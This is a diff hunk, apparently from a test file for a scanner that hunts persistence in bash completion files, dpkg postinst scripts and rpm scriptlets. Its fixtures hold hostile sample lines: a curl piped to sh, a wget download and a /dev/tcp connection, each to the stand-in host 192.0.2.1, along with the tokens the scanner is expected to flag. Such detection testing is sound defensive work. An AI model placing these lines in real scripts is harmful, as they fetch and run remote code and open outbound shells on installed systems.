@@ -80,6 +80,8 @@ FILES = [
         (None, b"/etc/bash_completion.d/x", []), (3, b"_x() { curl -s http://192.0.2.1/x | sh; }", [b"_x", b"curl", b"sh"])]),
     (b"/root/.local/share/bash-completion/completions/x", b". ~/.x\n", [
         (None, b"/root/.local/share/bash-completion/completions/x", []), (1, b". ~/.x", [b"~/.x"])]),
+    (b"live/commands/rpm-scripts.txt", b"package a-1\npostinstall scriptlet (using /bin/sh):\n# curl\n/sbin/ldconfig\npackage b-1\n"
+     b"triggerin scriptlet (using /bin/sh) -- bash\nwget http://192.0.2.1/x\n", [(7, b"wget http://192.0.2.1/x", [b"wget"])]),
     (b"/var/lib/dpkg/info/x.postinst", b"#!/bin/sh\nset -e\nbash -c 'exec 3<>/dev/tcp/192.0.2.1/80'\n", [
         (None, b"/var/lib/dpkg/info/x.postinst", [b"/var/lib/dpkg/info/x.postinst"]),
         (3, b"bash -c 'exec 3<>/dev/tcp/192.0.2.1/80'", [b"bash"])]),
